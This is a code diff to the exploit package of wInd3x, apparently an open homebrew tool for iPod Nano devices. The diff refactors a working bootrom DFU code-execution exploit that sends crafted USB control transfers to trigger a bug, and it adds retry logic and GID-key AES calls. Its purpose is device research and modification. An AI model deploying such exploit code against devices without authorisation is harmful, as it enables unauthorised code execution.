@@ -2,12 +2,16 @@ package exploit
 
 import (
 	"bytes"
+	"context"
+	"errors"
 	"fmt"
 	"time"
 
 	"github.com/freemyipod/wInd3x/pkg/devices"
 	"github.com/freemyipod/wInd3x/pkg/dfu"
+	"github.com/freemyipod/wInd3x/pkg/transport"
 	"github.com/freemyipod/wInd3x/pkg/uasm"
+	"github.com/freemyipod/wInd3x/pkg/usblog"
 
 	"github.com/google/gousb"
 )
@@ -28,7 +32,10 @@ type Parameters interface {
 	SetupPacket() []byte
 
 	HandlerFooter(addr uint32) []uasm.Statement
-	AESCall() []uasm.Statement
+	// AESCall runs the bootrom AES routine over 0x40 bytes of the DFU buffer
+	// in place, using the GID key and a zero IV in CBC mode. It decrypts,
+	// or encrypts if encrypt is set.
+	AESCall(encrypt bool) []uasm.Statement
 	HaxedDFUPayload() []uasm.Statement
 	DisableICache() []uasm.Statement
 
@@ -48,6 +55,16 @@ func ldrOrMov(r uasm.Register, val uint32) uasm.Statement {
 	return uasm.Mov{Dest: r, Src: uasm.Immediate(val)}
 }
 
+// aesDirection returns the direction argument of the bootrom AES routine.
+// Decryption (1) is known to work; encryption is assumed to be its inverse,
+// and should thus be checked against decryption before being relied upon.
+func aesDirection(encrypt bool) uint32 {
+	if encrypt {
+		return 0
+	}
+	return 1
+}
+
 func makeCall(addr uint32, params ...uint32) []uasm.Statement {
 	var stackParams []uint32
 	if len(params) > 4 {
@@ -97,14 +114,29 @@ func makeCall(addr uint32, params ...uint32) []uasm.Statement {
 	return res
 }
 
+// ErrUnsupported is returned when trying to exploit a device for which no
+// exploit parameters are known, eg. the Nano 6G and 7G.
+var ErrUnsupported = errors.New("exploit not supported on this device")
+
+// ParametersForKind are the exploit parameters for all exploitable devices.
+// Other supported devices (ie. the Nano 6G and 7G) can only run signed images.
 var ParametersForKind = map[devices.Kind]Parameters{
 	devices.Nano3: &epNano3G{},
 	devices.Nano4: newEPNano4G(),
 	devices.Nano5: newEPNano5G(),
 }
 
-func RCE(usb *gousb.Device, ep Parameters, payload, data []byte) ([]byte, error) {
-	usb.ControlTimeout = time.Millisecond * 50
+// TriggerTimeout is the timeout of control transfers made by RCE. The exploit
+// relies on some of them timing out, so this must be short, but some host
+// controllers need more time for the other ones.
+var TriggerTimeout = 50 * time.Millisecond
+
+func RCE(usb transport.Device, ep Parameters, payload, data []byte) ([]byte, error) {
+	if ep == nil {
+		return nil, ErrUnsupported
+	}
+	usb.SetControlTimeout(TriggerTimeout)
+	defer usb.SetControlTimeout(dfu.ControlTimeout)
 
 	prefixLen := int(ep.ExecAddr() - ep.DFUBufAddr())
 	if len(data) > prefixLen {
@@ -126,7 +158,7 @@ func RCE(usb *gousb.Device, ep Parameters, payload, data []byte) ([]byte, error)
 	}
 
 	buf := make([]byte, 0x40)
-	if _, err := usb.Control(0xa1, uint8(dfu.RequestUpload), 0, 0, buf); err != nil {
+	if _, err := usblog.Control(usb, 0xa1, uint8(dfu.RequestUpload), 0, 0, buf); err != nil {
 		return nil, fmt.Errorf("first upload failed: %v", err)
 	}
 
@@ -137,7 +169,7 @@ func RCE(usb *gousb.Device, ep Parameters, payload, data []byte) ([]byte, error)
 		// X = TrampolineAddr, which is 0x3b0 for Nano 4G and 0x37c for Nano 5G
 		l := ep.TrampolineAddr() + 0x40
 		buf = make([]byte, l)
-		_, err := usb.Control(0xa1, uint8(dfu.RequestUpload), 0, 0, buf)
+		_, err := usblog.Control(usb, 0xa1, uint8(dfu.RequestUpload), 0, 0, buf)
 		if want, got := gousb.ErrorTimeout, err; want != got {
 			return nil, fmt.Errorf("upload trigger should have returned %v, got %v", want, got)
 		}
@@ -150,7 +182,7 @@ func RCE(usb *gousb.Device, ep Parameters, payload, data []byte) ([]byte, error)
 	wValue := uint16(setup[2]) | (uint16(setup[3]) << 8)
 	wIndex := uint16(setup[4]) | (uint16(setup[5]) << 8)
 	res := make([]byte, 0x40)
-	_, err := usb.Control(bmRequestType, bRequest, wValue, wIndex, res)
+	_, err := usblog.Control(usb, bmRequestType, bRequest, wValue, wIndex, res)
 	if err != nil {
 		return nil, fmt.Errorf("bug trigger: %w", err)
 	}
@@ -158,3 +190,26 @@ func RCE(usb *gousb.Device, ep Parameters, payload, data []byte) ([]byte, error)
 	return res, nil
 
 }
+
+// TriggerRetryPolicy is the policy used by TriggerRetry. Payloads fail to
+// trigger a lot more often than other transfers fail, so by default they get
+// more attempts than dfu.Retry, at a constant interval, as decryption always
+// did.
+var TriggerRetryPolicy = dfu.RetryPolicy{
+	Attempts:   11,
+	Backoff:    100 * time.Millisecond,
+	MaxBackoff: 100 * time.Millisecond,
+	Retryable:  dfu.Any,
+}
+
+// TriggerRetry calls trigger, retrying on failures according to
+// TriggerRetryPolicy, as payloads sometimes fail to trigger. name is the
+// operation being run, as logged on retries.
+func TriggerRetry(ctx context.Context, name string, trigger func(usb transport.Device, ep Parameters, data []byte) ([]byte, error), usb transport.Device, ep Parameters, data []byte) ([]byte, error) {
+	var res []byte
+	err := TriggerRetryPolicy.DoContext(ctx, name, func() (err error) {
+		res, err = trigger(usb, ep, data)
+		return err
+	})
+	return res, err
+}